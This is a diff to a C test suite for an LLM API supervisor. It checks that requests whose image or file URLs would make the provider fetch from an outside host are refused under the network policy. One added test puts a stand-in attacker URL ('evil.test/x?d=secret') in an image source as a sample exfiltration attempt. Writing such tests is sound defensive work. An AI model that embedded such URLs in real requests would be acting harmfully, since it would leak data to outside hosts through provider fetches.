@@ -1460,10 +1460,10 @@ Test(supervisor_llm, openrouter_model_variants_under_a_cost_cap)
  * states no cost; one that is no price refuses the routing under a cost cap. */
 Test(supervisor_llm, openrouter_max_price_request_and_image_fees)
 {
-#define ROUTED(fees)                                                                                                 \
-        "{\"model\":\"claude-test\",\"max_tokens\":10,\"messages\":[{\"role\":\"user\",\"content\":[{\"type\":"      \
-        "\"image_url\",\"image_url\":{\"url\":\"https://x/a.png\"}},{\"type\":\"image_url\",\"image_url\":{\"url\":" \
-        "\"https://x/b.png\"}}]}],\"provider\":{\"max_price\":{\"prompt\":1,\"completion\":1" fees "}}}"
+#define ROUTED(fees)                                                                                                          \
+        "{\"model\":\"claude-test\",\"max_tokens\":10,\"messages\":[{\"role\":\"user\",\"content\":[{\"type\":"               \
+        "\"image_url\",\"image_url\":{\"url\":\"data:image/png;base64,AA\"}},{\"type\":\"image_url\",\"image_url\":{\"url\":" \
+        "\"data:image/png;base64,BB\"}}]}],\"provider\":{\"max_price\":{\"prompt\":1,\"completion\":1" fees "}}}"
         static const char reply[] = "{\"id\":\"c\",\"model\":\"claude-test\",\"choices\":[{\"message\":{\"role\":"
                                     "\"assistant\",\"content\":\"hi\"},\"finish_reason\":\"stop\"}],"
                                     "\"usage\":{\"prompt_tokens\":100,\"completion_tokens\":10}}";
@@ -1591,6 +1591,23 @@ Test(supervisor_llm, provider_fetching_is_judged_against_the_network_policy)
         expect_reach(&f, &anthropic, "/v1/messages",
                      ANTHROPIC_WITH("\"tools\":[{\"name\":\"WebFetch\",\"input_schema\":{\"type\":\"object\"}},"
                                     "{\"type\":\"web_search_20250305\",\"name\":\"web_search\",\"max_uses\":8}]"),
+                     0, NULL);
+        /* Images and files by URL: the provider fetches them; inline data it does not. */
+        expect_reach(&f, &anthropic, "/v1/messages",
+                     "{\"model\":\"claude-test\",\"max_tokens\":10,\"messages\":[{\"role\":\"user\",\"content\":["
+                     "{\"type\":\"image\",\"source\":{\"type\":\"url\",\"url\":\"https://evil.test/x?d=secret\"}}]}]}",
+                     403, "an image or file by URL (\"url\"), host evil.test port 443");
+        expect_reach(&f, &openai, "/v1/chat/completions",
+                     "{\"model\":\"claude-test\",\"messages\":[{\"role\":\"user\",\"content\":[{\"type\":"
+                     "\"image_url\",\"image_url\":{\"url\":\"http://evil.test/a.png\"}}]}]}",
+                     403, "host evil.test port 80");
+        expect_reach(&f, &openai, "/v1/responses",
+                     "{\"model\":\"claude-test\",\"input\":[{\"role\":\"user\",\"content\":[{\"type\":"
+                     "\"input_file\",\"file_url\":\"https://evil.test/a.pdf\"}]}]}",
+                     403, "(\"file_url\"), host evil.test");
+        expect_reach(&f, &openai, "/v1/chat/completions",
+                     "{\"model\":\"claude-test\",\"messages\":[{\"role\":\"user\",\"content\":[{\"type\":"
+                     "\"image_url\",\"image_url\":{\"url\":\"data:image/png;base64,AAAA\"}}]}]}",
                      0, NULL);
         expect_reach(&f, &anthropic, "/v1/messages/batches", "{\"requests\":[]}", 0, NULL);
         expect_reach(&f, &anthropic, "/v1/messages/batches", "{\"requests\":[],\"requests\":[]}", 400, "repeats a key");
